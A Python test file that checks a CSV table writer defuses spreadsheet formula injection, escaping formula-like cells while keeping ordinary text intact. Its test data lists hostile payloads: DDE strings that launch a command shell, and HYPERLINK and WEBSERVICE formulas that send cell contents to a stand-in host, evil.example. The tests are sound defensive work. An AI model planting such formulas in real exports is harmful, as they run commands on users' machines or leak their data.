"""No cell of any table we hand out becomes a formula, in whatever program it is opened."""

import ast
import csv
import io
from typing import Final

import pytest
from tests.architecture.source import ROOT, called, calls, modules

from kehui.core.tables import BOM, neutral, write_table

SIGNS: Final = "=+-@\t\r＝＋－＠﹢﹣﹦﹫⁺⁼₊₋₌⁻−‐‑‒–—"
BEFORE: Final = (
    "", " ", "  ", "\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u2066", "\x00", "\x0b",
    "\u2028", "\u00ad", "\x1b",
)  # fmt: skip
CALLS: Final = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"x")', "SUM(A1:A9)",
    'WEBSERVICE("https://evil.example")', 'DDE("cmd";"/C calc";"x")', "IMPORTXML(A1)",
)  # fmt: skip
FORMULAS: Final = [
    before + sign + call for sign in SIGNS for before in BEFORE for call in CALLS
]  # fmt: skip


def written(*rows: list[object]) -> str:
    stream = io.StringIO()
    write_table(stream, rows)
    return stream.getvalue()


def test_no_text_becomes_a_formula() -> None:
    assert len(FORMULAS) > 2_000
    bare = [text for text in FORMULAS if neutral(text) != f"'{text}"]

    assert bare == []


@pytest.mark.parametrize(
    "cell", [-3, -3.5, 0, None, "", " ", "泡菜", "3-5 万元", "甲=乙", "a@b.cn", "'=x", "·", "𠮷"]
)
def test_what_is_no_formula_stays(cell: object) -> None:
    assert neutral(cell) == cell


def test_what_is_neither_text_nor_number_is_text() -> None:
    assert neutral(True) == "True"  # noqa: FBT003
    assert neutral(["=1"]) == "['=1']"


def test_texts_stay_whole_in_programs_that_part_cells_otherwise() -> None:
    """A semicolon or a tab parts cells where the comma is the decimal sign."""
    told = written([1, "甲;=1+1", "乙\t=1+1", '丙"', None])

    assert told == f'{BOM}1,"甲;=1+1","乙\t=1+1","丙""",""\r\n'


def test_every_cell_comes_back(capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[list[object]] = [[text, 7, "x\ny"] for text in FORMULAS]

    read = list(csv.reader(io.StringIO(written(*rows).removeprefix(BOM), newline="")))

    assert read == [[f"'{text}", "7", "x\ny"] for text in FORMULAS]


def test_tables_are_written_here_and_nowhere_else() -> None:
    found = [
        called(path, call)
        for path in modules()
        for call in calls(path)
        if ast.unparse(call.func) in {"csv.writer", "csv.DictWriter", "Workbook", "writer"}
        and path != ROOT / "core" / "tables.py"
    ]

    assert found == []
